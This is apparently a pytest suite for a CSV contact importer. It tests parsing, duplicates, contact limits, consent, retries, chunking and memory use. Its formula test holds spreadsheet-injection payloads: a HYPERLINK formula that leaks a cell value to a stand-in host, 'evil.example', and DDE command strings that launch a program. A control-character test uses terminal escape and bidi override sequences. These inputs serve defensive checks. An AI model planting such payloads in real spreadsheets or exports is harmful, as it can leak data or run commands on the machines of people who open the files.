"""CSV imports in-process, on SQLite and PostgreSQL: the row-level rules (duplicates, errors,
the contact limit, consent, fields), malformed files, retries, chunking and memory."""

from __future__ import annotations

import threading
import tracemalloc
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import pytest

from domain.csv_import import CsvImport, CsvImportState, CsvOptions
from domain.errors import ValidationError
from domain.import_settings import Credentials, NewImport
from service.application import AutoImports
from service.config import Settings
from service.csv_import import CsvImporter
from service.errors import NotFound
from service.leases import LocalLeases
from service.projector import catch_up
from service.read_models import open_view
from service.read_models.contacts import ContactRow
from service.read_models.views import VIEW_CLASSES, AccountViews, AccountViewsProjection
from service.stores import open_application
from service.sync import SyncEngine
from tests.conftest import STORES
from tests.scripted import ScriptedConnectors
from tests.test_domain_csv import chunked, generated_file, randomly_chunked

pytestmark = pytest.mark.parametrize("store_env", STORES, indirect=True)


class Csv:
    """An application, its views, and CSV imports into it."""

    def __init__(self, settings: Settings):
        self.app: AutoImports = open_application(settings)
        self.views: AccountViews = open_view(
            AccountViewsProjection,
            VIEW_CLASSES,
            settings.store_env(AccountViewsProjection.name),
        )
        self.projection = AccountViewsProjection(view=self.views)
        self.importer = CsvImporter(self.app)

    def account(self, account_id: str = "acme", limit: int = 100_000) -> str:
        self.app.upsert_account(account_id, "plus", limit, actor="admin")
        return account_id

    def load(
        self,
        data: bytes | Iterable[bytes],
        account_id: str = "acme",
        **options: Any,
    ) -> dict[str, Any]:
        chunks = [data] if isinstance(data, bytes) else data
        return self.importer.run(account_id, CsvOptions(**options), chunks, actor="key:test")

    def contacts(self, account_id: str = "acme") -> dict[str, ContactRow]:
        self.catch_up()
        rows: dict[str, ContactRow] = {}
        token = ""
        while True:
            page = self.views.list_contacts(account_id, 1000, token)
            rows.update((r.email, r) for r in page.rows)
            token = page.next_page_token
            if not token:
                return rows

    def catch_up(self) -> None:
        while catch_up(self.app, self.projection):
            pass

    def close(self) -> None:
        self.views.datastore.close()
        self.app.close()


@pytest.fixture
def csv(store_env: dict[str, str]) -> Iterator[Csv]:
    c = Csv(Settings.from_env(store_env))
    yield c
    c.close()


def lines(*rows: str) -> bytes:
    return "".join(f"{row}\n" for row in rows).encode()


def counts(report: dict[str, Any]) -> dict[str, int]:
    return {k: v for k, v in report.items() if k != "errors" and v}


# -- parsing, end to end into contacts --------------------------------------------------------


def test_a_file_with_a_bom_semicolons_quoted_newlines_and_any_header_case(csv: Csv):
    csv.account()
    data = (
        "\ufeffE-MAIL; First_Name ;LASTNAME;phone number\r\n"
        'Ann@Example.COM;Ann;"Lee;\r\nJr.";+1 555\r\n'
        '"bob@example.com";"Bob ""B""";;\r\n'
    ).encode()

    report = csv.load(data, list_ids=["newsletter"], tags=["csv", "spring"])

    assert counts(report) == {"rows": 2, "added": 2}
    contacts = csv.contacts()
    ann, bob = contacts["ann@example.com"], contacts["bob@example.com"]
    assert (ann.first_name, ann.last_name, ann.phone) == ("Ann", "Lee;\r\nJr.", "+1 555")
    assert bob.first_name == 'Bob "B"'
    assert (ann.status, ann.list_ids, ann.tags) == ("ACTIVE", ["newsletter"], ["csv", "spring"])
    assert [s.startswith("csv:") for s in ann.sources] == [True]


def test_custom_columns_become_fields_created_once_with_values_under_their_tags(csv: Csv):
    csv.account()
    first = csv.load(
        lines("email,Company Name,Shoe size", "a@example.com,Acme,42", "b@example.com,Initech,")
    )
    second = csv.load(lines("Email,company name,Birthday", "c@example.com,Umbrella,1 May"))

    assert (first["fields_created"], second["fields_created"]) == (2, 1)
    contacts = csv.contacts()
    assert contacts["a@example.com"].fields == {"%COMPANY_NAME%": "Acme", "%SHOE_SIZE%": "42"}
    assert contacts["b@example.com"].fields == {"%COMPANY_NAME%": "Initech"}
    assert contacts["c@example.com"].fields == {"%COMPANY_NAME%": "Umbrella", "%BIRTHDAY%": "1 May"}
    fields = csv.views.list_fields("acme", "csv")
    assert sorted((f.title, f.personalization_tag, f.service) for f in fields) == [
        ("Birthday", "%BIRTHDAY%", "csv"),
        ("Company Name", "%COMPANY_NAME%", "csv"),  # as the first file wrote it
        ("Shoe size", "%SHOE_SIZE%", "csv"),
    ]


def test_empty_cells_never_erase_and_lists_and_tags_only_grow(csv: Csv):
    csv.account()
    csv.load(lines("email,first name,Company", "a@example.com,Ann,Acme"), tags=["one"])

    report = csv.load(lines("email,first name,Company", "a@example.com,,"), tags=["two"])

    assert counts(report) == {"rows": 1, "updated": 1}  # gained the tag
    row = csv.contacts()["a@example.com"]
    assert (row.first_name, row.fields, row.tags) == ("Ann", {"%COMPANY%": "Acme"}, ["one", "two"])


def test_the_same_file_again_leaves_every_contact_unchanged(csv: Csv):
    csv.account()
    data = lines("email,first name", "a@example.com,Ann", "b@example.com,Bob")
    csv.load(data)

    again = csv.load(data)

    assert counts(again) == {"rows": 2, "unchanged": 2}


# -- duplicates: the first row wins -------------------------------------------------------------


def test_the_first_row_of_an_email_wins_even_1200_rows_later(csv: Csv):
    csv.account()
    rows = ["email,first name"]
    rows += ["dup@example.com,First", "Other@Example.com,Other"]
    rows += [f"u{n}@example.com,U{n}" for n in range(1200)]
    rows += ["DUP@example.com,Later", "dup@example.com,Latest", "other@example.com,Again"]

    report = csv.load(lines(*rows))

    assert counts(report) == {"rows": 1205, "added": 1202, "duplicates_in_file": 3}
    assert [e["row"] for e in report["errors"]] == [1204, 1205, 1206]
    assert "earlier row" in report["errors"][0]["reason"]
    contacts = csv.contacts()
    assert len(contacts) == 1202
    assert contacts["dup@example.com"].first_name == "First"


def test_a_duplicate_in_the_same_batch_as_its_first_row(csv: Csv):
    csv.account()
    csv.load(lines("email,first name", "a@example.com,Old"))  # an existing contact

    report = csv.load(lines("email,first name", "a@example.com,New", "A@example.com,Newer"))

    assert counts(report) == {"rows": 2, "updated": 1, "duplicates_in_file": 1}
    assert csv.contacts()["a@example.com"].first_name == "New"


class Turns:
    """Runs uploads on threads one step at a time, in a given order of names: a step of an
    upload is all it does between taking two chunks of its file (parsing rows, saving batches),
    and its last step saves its last batch. When the order runs out, uploads left take turns by
    name."""

    def __init__(self, order: list[str]):
        self._order = list(order)
        self._cond = threading.Condition()
        self._turn: str | None = None
        self._running: set[str] = set()

    def run(self, uploads: dict[str, Callable[[Iterator[bytes]], Any]], files: dict[str, bytes]):
        results: dict[str, Any] = {}

        def upload(name: str) -> None:
            try:
                results[name] = uploads[name](self._chunks(name, files[name]))
            except BaseException as e:
                results[name] = e
            finally:
                with self._cond:
                    self._running.discard(name)
                    if self._turn == name:
                        self._pass()

        self._running = set(uploads)
        threads = [threading.Thread(target=upload, args=(name,)) for name in uploads]
        with self._cond:
            self._pass()
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=60)
        for result in results.values():
            if isinstance(result, BaseException):
                raise result
        return results

    def _chunks(self, name: str, data: bytes) -> Iterator[bytes]:
        for line in data.splitlines(keepends=True):
            self._wait(name)
            yield line
            with self._cond:
                self._pass()
        self._wait(name)

    def _wait(self, name: str) -> None:
        with self._cond:
            if not self._cond.wait_for(lambda: self._turn == name, timeout=30):
                raise TimeoutError(f"{name} never got its turn")

    def _pass(self) -> None:
        while self._order and self._order[0] not in self._running:
            self._order.pop(0)
        self._turn = self._order.pop(0) if self._order else min(self._running, default=None)
        self._cond.notify_all()


def test_a_later_row_is_a_duplicate_even_when_another_upload_applied_its_email_meanwhile(
    csv: Csv,
):
    """Upload A saves its first batch, upload B then applies the same email, then A's second
    batch meets that email again: it is A's duplicate, not applied over B's row."""
    csv.account()
    importer = CsvImporter(csv.app, batch_rows=2)
    files = {
        "A": lines(
            "email,first name",
            "a@example.com,A2",
            "x@example.com,A3",
            "A@example.com,A4",
            "y@example.com,A5",
        ),
        "B": lines("email,first name", "a@example.com,B2", "z@example.com,B3"),
    }
    uploads = {
        name: lambda chunks: importer.run("acme", CsvOptions(), chunks, actor="key:test")
        for name in files
    }

    # A takes its header and three rows, so its first batch is saved; then B runs to its end.
    reports = Turns(["A"] * 4 + ["B"] * 10 + ["A"] * 10).run(uploads, files)

    assert counts(reports["A"]) == {"rows": 4, "added": 3, "duplicates_in_file": 1}
    assert [e["row"] for e in reports["A"]["errors"]] == [4]
    assert counts(reports["B"]) == {"rows": 2, "added": 1, "updated": 1}
    contacts = csv.contacts()
    assert sorted(contacts) == [f"{e}@example.com" for e in "axyz"]
    assert contacts["a@example.com"].first_name == "B2"
    assert sum(s.startswith("csv:") for s in contacts["a@example.com"].sources) == 2


# -- emails ---------------------------------------------------------------------------------------


def test_missing_and_invalid_emails_are_reported_with_their_row_numbers(csv: Csv):
    csv.account()
    data = lines(
        "email,first name",
        "ok@example.com,Ok",
        ",No email",
        "not-an-email,Bad",
        "a@@b.com,Worse",
        "  ,Blank email",
        ",",  # a blank row: not a row of data
        "ok2@example.com,Ok",
    )

    report = csv.load(data)

    assert counts(report) == {
        "rows": 6,
        "added": 2,
        "skipped_missing_email": 2,
        "skipped_invalid_email": 2,
    }
    assert [(e["row"], e["reason"]) for e in report["errors"]] == [
        (3, "missing email"),
        (4, "invalid email 'not-an-email'"),
        (5, "invalid email 'a@@b.com'"),
        (6, "missing email"),
    ]
    assert sorted(csv.contacts()) == ["ok2@example.com", "ok@example.com"]


def test_at_most_1000_errors_are_listed_and_every_one_is_counted(csv: Csv):
    csv.account()
    data = lines("email", *(f"bad{n}" for n in range(1200)))

    report = csv.load(data)

    assert report["skipped_invalid_email"] == 1200
    assert len(report["errors"]) == 1000
    assert report["errors"][-1]["row"] == 1001


# -- the contact limit and consent --------------------------------------------------------------


def test_at_the_limit_new_rows_are_blocked_and_existing_contacts_still_updated(csv: Csv):
    csv.account(limit=3)
    csv.load(lines("email", "a@example.com", "b@example.com"))
    data = lines(
        "email,first name",
        "c@example.com,C",  # the last room
        "d@example.com,D",
        "a@example.com,Ann",
        "e@example.com,E",
    )

    report = csv.load(data)

    assert counts(report) == {"rows": 4, "added": 1, "updated": 1, "blocked_by_limit": 2}
    assert [(e["row"], e["reason"]) for e in report["errors"]] == [
        (3, "contact limit reached: d@example.com was not added"),
        (5, "contact limit reached: e@example.com was not added"),
    ]
    contacts = csv.contacts()
    assert sorted(contacts) == ["a@example.com", "b@example.com", "c@example.com"]
    assert contacts["a@example.com"].first_name == "Ann"
    assert csv.app.get_account("acme").contact_count == 3


def test_an_unsubscribed_contact_stays_unsubscribed(csv: Csv):
    csv.account()
    csv.load(lines("email", "jane@example.com"))
    csv.app.unsubscribe_contact("acme", "jane@example.com", actor="key:x")

    report = csv.load(lines("email,first name", "jane@example.com,Jane"), list_ids=["news"])

    assert report["updated"] == 1
    row = csv.contacts()["jane@example.com"]
    assert (row.status, row.first_name, row.list_ids) == ("UNSUBSCRIBED", "Jane", ["news"])


def test_a_csv_import_and_a_sync_share_one_contact_per_email(csv: Csv):
    csv.account()
    connectors = ScriptedConnectors()
    engine = SyncEngine(csv.app, connectors, interval=1800, leases=LocalLeases())
    new = NewImport("shopify", "store-a", Credentials("token"))
    auto_import = csv.app.create_import("acme", new, actor="admin")
    connectors.source("store-a").put("1", "jane@example.com", first_name="Jane")
    engine.trigger("acme", auto_import.id, actor="scheduler")

    report = csv.load(lines("email,last name", "JANE@example.com,Doe"))

    assert counts(report) == {"rows": 1, "updated": 1}
    (row,) = csv.contacts().values()
    assert (row.first_name, row.last_name) == ("Jane", "Doe")
    assert row.sources[0] == str(auto_import.id) and row.sources[1].startswith("csv:")


# -- control characters and formulas ------------------------------------------------------------


def test_control_characters_are_taken_out_of_values_and_counted(csv: Csv):
    csv.account()
    data = lines(
        "email,first name,last name,Notes",
        "a@example.com,Ann\x00,Lee\x1b[31m,\u202eevil\u202c",
        'b@example.com,Bob,"Two\r\nlines\x07",tab\tinside',
        "c@example.com,\u2066Cy\u2069,,\x7f",
    )

    report = csv.load(data)

    assert (report["rows"], report["added"], report["cells_cleaned"]) == (3, 3, 6)
    contacts = csv.contacts()
    a, b, c = (contacts[f"{n}@example.com"] for n in "abc")
    assert (a.first_name, a.last_name, a.fields) == ("Ann", "Lee[31m", {"%NOTES%": "evil"})
    assert (b.last_name, b.fields) == ("Two\r\nlines", {"%NOTES%": "tab\tinside"})
    assert (c.first_name, c.fields) == ("Cy", {})  # a value of nothing but controls is empty


def test_a_header_with_a_control_character_is_refused_naming_the_column(csv: Csv):
    csv.account()

    with pytest.raises(ValidationError) as caught:
        csv.load(lines("email,first name,Notes\x1b[2J", "a@example.com,Ann,x"))

    assert caught.value.violations[0].description == (
        "row 1: column 3's name holds a control character (U+001B); no row was applied"
    )
    assert csv.contacts() == {} and csv.views.list_fields("acme", "csv") == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  -2+3+cmd|' /C calc'!A0",
]


def test_formulas_are_stored_as_written_and_their_rows_flagged(csv: Csv):
    csv.account()
    rows = [
        f'u{n}@example.com,"{f.replace(chr(34), chr(34) * 2)}",' for n, f in enumerate(FORMULAS)
    ]
    data = lines(
        "email,first name,Notes",
        "plain@example.com,Ann,+1 (555) 010-0100",  # row 2: a phone number, not a formula
        *rows,  # rows 3 to 9
        "last@example.com,Zed,=1+1",  # row 10, in a custom field
    )

    report = csv.load(data)

    assert (report["rows"], report["added"], report["rows_with_formulas"]) == (9, 9, 8)
    assert report["formula_rows"] == list(range(3, 11))
    contacts = csv.contacts()
    stored = [contacts[f"u{n}@example.com"].first_name for n in range(len(FORMULAS))]
    assert stored == [f.strip() for f in FORMULAS]  # trimmed, as every value is, and no more
    assert contacts["last@example.com"].fields == {"%NOTES%": "=1+1"}


def test_every_formula_row_is_counted_and_the_first_100_listed(csv: Csv):
    csv.account()
    data = lines("email,Notes", *(f"u{n}@example.com,=A{n}" for n in range(1200)))

    report = csv.load(data)

    assert report["rows_with_formulas"] == 1200
    assert report["formula_rows"] == list(range(2, 102))


# -- malformed files ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "row 1: the file is empty"),
        (b"first name,phone\nJo,1\n", "row 1: no email column"),
        (b"email,name\na@example.com,A\nb@example.com,B,C\n", "row 3: has 3 fields"),
        (b'email,name\na@example.com,A\nb@example.com,"B\n', "row 3: is not valid CSV"),
        (b"email\na@example.com\n\xff\n", "row 3: is not UTF-8 text"),
    ],
)
def test_a_malformed_file_is_refused_naming_the_row(csv: Csv, data: bytes, message: str):
    csv.account()

    with pytest.raises(ValidationError) as caught:
        csv.load(data)

    (violation,) = caught.value.violations
    assert violation.field == "chunk"
    assert violation.description.startswith(message)
    assert violation.description.endswith("no row was applied")
    assert csv.contacts() == {}  # the rows before it were in the same, unsaved, batch


def test_a_malformed_row_after_complete_batches_says_how_many_rows_were_applied(csv: Csv):
    csv.account()
    data = lines("email", *(f"u{n}@example.com" for n in range(1200))) + b"x@example.com,extra\n"

    with pytest.raises(ValidationError) as caught:
        csv.load(data, request_id="0c6f1f3e-8a52-4d7a-9a53-2d4c4bb0b1a0")

    description = caught.value.violations[0].description
    assert description == (
        "row 1202: has 2 fields but the header has 1; "
        "the 1000 rows up to row 1001 were applied, none after"
    )
    assert len(csv.contacts()) == 1000  # two complete batches of 500
    csv_import = csv.app.repository.get(
        CsvImport.create_id("acme", "0c6f1f3e-8a52-4d7a-9a53-2d4c4bb0b1a0")
    )
    assert csv_import.state is CsvImportState.FAILED
    assert csv_import.failure == {"row": 1202, "reason": "has 2 fields but the header has 1"}
    with pytest.raises(ValidationError) as again:  # a retry gets the same answer
        csv.load(b"email\nnew@example.com\n", request_id="0c6f1f3e-8a52-4d7a-9a53-2d4c4bb0b1a0")
    assert again.value.violations[0].description == description
    assert len(csv.contacts()) == 1000


def test_an_unknown_account_is_not_found(csv: Csv):
    with pytest.raises(NotFound):
        csv.load(lines("email", "a@example.com"), account_id="nobody")


def test_invalid_options_are_refused(csv: Csv):
    csv.account()

    with pytest.raises(ValidationError) as caught:
        csv.load(lines("email", "a@example.com"), list_ids=["not a list id"], tags=[""])

    assert [v.field for v in caught.value.violations] == ["options.list_ids[0]", "options.tags[0]"]


# -- retries and audit --------------------------------------------------------------------------


def test_a_retried_upload_returns_the_first_report_and_applies_nothing_twice(csv: Csv):
    csv.account()
    request_id = "9b1deb4d-3b7d-4bad-9bdd-2b0d7b3dcb6d"
    data = lines("email,first name", "a@example.com,Ann", "b@example.com,Bob")
    first = csv.load(data, request_id=request_id)
    version = csv.app.repository.get(CsvImport.create_id("acme", request_id)).version

    again = csv.load(data, request_id=request_id)

    assert again == first
    assert csv.app.repository.get(CsvImport.create_id("acme", request_id)).version == version
    assert csv.app.get_account("acme").contact_count == 2


def test_an_interrupted_upload_carries_on_after_its_last_saved_batch(csv: Csv):
    csv.account()
    request_id = "5e2b7a4c-1f0d-4a8e-b6c2-7d9e3f1a2b4c"
    data = lines("email", *(f"u{n}@example.com" for n in range(1300)))

    def cut_after(limit: int) -> Iterator[bytes]:
        sent = 0
        for chunk in chunked(data, 1000):
            if sent >= limit:
                raise ConnectionError("the client went away")
            sent += len(chunk)
            yield chunk

    with pytest.raises(ConnectionError):
        csv.load(cut_after(len(data) * 2 // 3), request_id=request_id)
    assert len(csv.contacts()) == 500

    report = csv.load(chunked(data, 1000), request_id=request_id)

    assert counts(report) == {"rows": 1300, "added": 1300}
    assert len(csv.contacts()) == 1300
    assert csv.app.get_account("acme").contact_count == 1300


def test_the_import_s_history_records_each_batch(csv: Csv):
    csv.account(limit=600)
    request_id = "1f2e3d4c-5b6a-4978-8695-a4b3c2d1e0f9"
    rows = [f"u{n}@example.com,Acme" for n in range(700)]
    csv.load(lines("email,Company", *rows, ",x", "u1@example.com,y"), request_id=request_id)

    import_id = CsvImport.create_id("acme", request_id)
    events = list(csv.app.events.get(import_id))

    assert [type(e).__name__ for e in events] == [
        "Started",
        "BatchApplied",
        "BatchApplied",
        "Completed",
    ]
    first, second = events[1], events[2]
    assert (first.first_row, first.last_row, second.first_row, second.last_row) == (
        2,
        501,
        502,
        703,
    )
    assert first.counts["added"] == 500 and first.counts["fields_created"] == 1
    assert second.counts == {
        "rows": 202,
        "added": 100,
        "updated": 0,
        "unchanged": 0,
        "duplicates_in_file": 1,
        "skipped_missing_email": 1,
        "skipped_invalid_email": 0,
        "blocked_by_limit": 100,
        "fields_created": 0,
        "cells_cleaned": 0,
        "rows_with_formulas": 0,
    }
    assert [e["row"] for e in second.errors][-2:] == [702, 703]
    assert first.fields_created[0]["personalization_tag"] == "%COMPANY%"
    assert events[0].actor == "key:test"


# -- chunking and memory ------------------------------------------------------------------------

CHUNKING_FILE = (
    "\ufeffEmail;First Name;Notes\r\n"
    + "".join(
        f'user{n}@example.com;"Zoë {n}";"line ""{n}""\r\nnext; line"\r\n'
        if n % 7
        else f"bad{n};;\r\n"
        for n in range(120)
    )
    + "user3@example.com;dup;\r\n"
).encode()


def test_chunks_of_one_byte_or_of_random_sizes_give_the_same_import(csv: Csv):
    results = []
    for n, chunks in enumerate(
        [
            [CHUNKING_FILE],
            chunked(CHUNKING_FILE, 1),
            randomly_chunked(CHUNKING_FILE, seed=1),
            randomly_chunked(CHUNKING_FILE, seed=2),
        ]
    ):
        account_id = csv.account(f"acct{n}")
        report = csv.load(chunks, account_id=account_id)
        contacts = csv.contacts(account_id)
        results.append(
            (
                report,
                sorted((c.email, c.first_name, c.fields["%NOTES%"]) for c in contacts.values()),
            )
        )

    assert results[0][0]["added"] == 102 and results[0][0]["duplicates_in_file"] == 1
    assert all(result == results[0] for result in results)


def peak_memory_of_importing(csv: Csv, account_id: str, rows: int) -> int:
    csv.account(account_id, limit=1_000_000)
    tracemalloc.start()
    try:
        report = csv.load(generated_file(rows), account_id=account_id)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report["added"] == rows
    return peak


def test_importing_takes_the_same_memory_whatever_the_file_s_size(csv: Csv):
    small = peak_memory_of_importing(csv, "small", 2_000)
    large = peak_memory_of_importing(csv, "large", 8_000)

    assert large < small * 1.5  # four times the rows, not four times the memory
